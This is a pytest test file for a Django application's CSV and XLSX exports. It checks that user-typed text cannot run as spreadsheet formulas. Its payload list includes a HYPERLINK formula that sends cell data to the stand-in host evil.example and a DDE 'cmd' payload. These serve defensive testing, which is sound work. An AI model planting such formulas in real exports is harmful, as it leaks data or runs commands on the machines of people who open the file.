"""Formula injection in exports (issue 9 item 6). Text people type reaches spreadsheets through every
CSV and XLSX export: in CSV a cell that a spreadsheet would run as a formula gets a leading quote
(phone numbers in international form excepted); in XLSX every text cell is stored as text, never as a
formula. One implementation, `zorgzaam.core.csvsafe`, used by every exporter."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from zorgzaam.core import csvsafe

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
PHONES = ["+32 470 12 34 56", "+32470123456"]
ALL = PAYLOADS + PHONES


def _expected_csv(value: str) -> str:
    return value if value in PHONES else "'" + value


def _csv_cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for c in row]


def _as_read_back(value: str) -> str:
    # XML turns a carriage return in text into a line feed when the file is read: same text cell.
    return value.replace("\r", "\n")


def _xlsx_cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


# --- the one implementation ------------------------------------------------------------------------


@pytest.mark.parametrize("value", PAYLOADS)
def test_safe_cell_neutralises_formula_starts(value):
    assert csvsafe.safe_cell(value) == "'" + value
    assert csvsafe.safe_row([value, 3]) == ["'" + value, 3]


@pytest.mark.parametrize("value", PHONES + ["+32 (0)470 12 34 56", "+32 2 555 12 34", "+31.20.123.45.67"])
def test_phone_numbers_stay_as_written(value):
    assert csvsafe.is_phone_number(value)
    assert csvsafe.safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "+1+1",
        "+32 470 12 34 56+1",
        "+32470123456;=1",
        "+3247",
        "+32 470 12 34 56 78 90 12 34",
        "+(0)12345678",
    ],
)
def test_things_that_only_look_like_phone_numbers_are_neutralised(value):
    assert not csvsafe.is_phone_number(value)
    assert csvsafe.safe_cell(value) == "'" + value


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert csvsafe.safe_row([-5, -2.5, 0, None, "Noord", "a=b", ""]) == [
        -5,
        -2.5,
        0,
        None,
        "Noord",
        "a=b",
        "",
    ]


@pytest.mark.parametrize("value", ALL)
def test_xlsx_text_is_stored_as_text_never_as_formula(value):
    wb = Workbook()
    csvsafe.xlsx_append(wb.active, [value, -3, 2.5])
    buf = io.BytesIO()
    wb.save(buf)
    cells = _xlsx_cells(buf.getvalue())
    assert (cells[0].data_type, cells[0].value) == ("s", _as_read_back(value))
    assert (cells[1].data_type, cells[1].value) == ("n", -3)
    assert cells[2].value == 2.5


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    """Control characters people paste would make openpyxl raise (a 500): they are left out."""
    wb = Workbook()
    csvsafe.xlsx_append(wb.active, ["Noord\x01\x0bwijk"])
    buf = io.BytesIO()
    wb.save(buf)
    assert _xlsx_cells(buf.getvalue())[0].value == "Noordwijk"


# --- every export that carries typed text ---------------------------------------------------------


@pytest.fixture
def analysis_with(db, network, areas, users, client_of):
    """The analysis exports with `value` typed as an area name, an indicator name and a label."""
    from zorgzaam.analysis.hospiscore import ensure_default_profile
    from zorgzaam.analysis.models import HospiscoreComponent

    coord = client_of(users["coordinator"])

    def make(value):
        areas["north"].name = value
        areas["north"].save()
        ensure_default_profile(network)
        HospiscoreComponent.objects.filter(profile__network=network).update(label=value)
        from zorgzaam.sectors.models import Indicator

        Indicator.objects.filter(pk=Indicator.objects.order_by("code").values("pk")[:1]).update(
            name_nl=value, name_fr=value, name_en=value
        )
        return coord

    return make


@pytest.mark.django_db
@pytest.mark.parametrize("value", ALL)
def test_analysis_csv(analysis_with, value):
    r = analysis_with(value).get("/analysis/export/csv/")
    assert r.status_code == 200
    cells = _csv_cells(r.content.decode("utf-8"), ";")
    assert _expected_csv(value) in cells
    assert value not in cells or value in PHONES
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) and c not in PHONES for c in cells)


@pytest.mark.django_db
@pytest.mark.parametrize("value", ALL)
def test_analysis_xlsx(analysis_with, value):
    r = analysis_with(value).get("/analysis/export/xlsx/")
    assert r.status_code == 200
    cells = _xlsx_cells(r.content)
    typed = [c for c in cells if c.value == _as_read_back(value)]
    # the area (3 sheets), the indicator (header) and the hospiscore labels
    assert len(typed) >= 4
    assert all(c.data_type == "s" for c in typed)
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.django_db
@pytest.mark.parametrize("value", ALL)
def test_audit_csv(value, users, actor_of, client_of, network):
    from zorgzaam.accounts.models import User
    from zorgzaam.audit import kinds
    from zorgzaam.audit.services import record

    # Usernames are typed at sign-up; create_user does not run the form's validators.
    typed = User.objects.create_user(username=value, password="correct horse battery")
    record(actor_of(typed), kinds.AUDIT_EXPORTED)
    r = client_of(users["coordinator"]).get("/audit/export.csv")
    assert r.status_code == 200
    cells = _csv_cells(r.content.decode("utf-8"), ",")
    assert _expected_csv(value) in cells
    assert value not in cells or value in PHONES


@pytest.mark.django_db
@pytest.mark.parametrize("value", ALL)
def test_sector_area_csv(value, users, client_of, areas):
    from zorgzaam.sectors.catalogue import seed
    from zorgzaam.sectors.models import Indicator

    seed(Indicator)
    ind = Indicator.objects.order_by("code").first()
    Indicator.objects.filter(pk=ind.pk).update(name_nl=value, name_fr=value, name_en=value, code=value[:60])
    r = client_of(users["coordinator"]).get(f"/sectors/areas/{areas['north'].pk}/indicators.csv")
    assert r.status_code == 200
    cells = _csv_cells(r.content.decode("utf-8"), ";")
    assert cells.count(_expected_csv(value)) >= 1
    assert value not in cells or value in PHONES


def test_sector_csv_writes_figures_as_numbers(monkeypatch):
    """Figures are numbers, so a negative one is written as it is (no quote); hidden ones stay "< k"."""
    from types import SimpleNamespace

    from zorgzaam.sectors import services as sectors

    agg = sectors.AggregateResult(value=-12.0, suppressed=False, method="sum", year=2024)
    cells = [
        {"value": -1.25, "display": "-1.2", "suppressed": False},
        {"value": None, "display": "< 5", "suppressed": True},
    ]
    report = {
        "sectors": [SimpleNamespace(code="41999A00-"), SimpleNamespace(code="41999A01-")],
        "rows": [
            {"indicator": SimpleNamespace(name="=1+1", code="change"), "aggregate": agg, "cells": cells}
        ],
    }
    from zorgzaam.sectors.services import reports

    monkeypatch.setattr(reports, "area_report", lambda actor, area, year=None: report)  # where it is used
    rows = list(csv.reader(io.StringIO(sectors.area_report_csv(None, None)), delimiter=";"))
    assert rows[1] == ["'=1+1", "change", "2024", "-12", "-1.2", "< 5"]
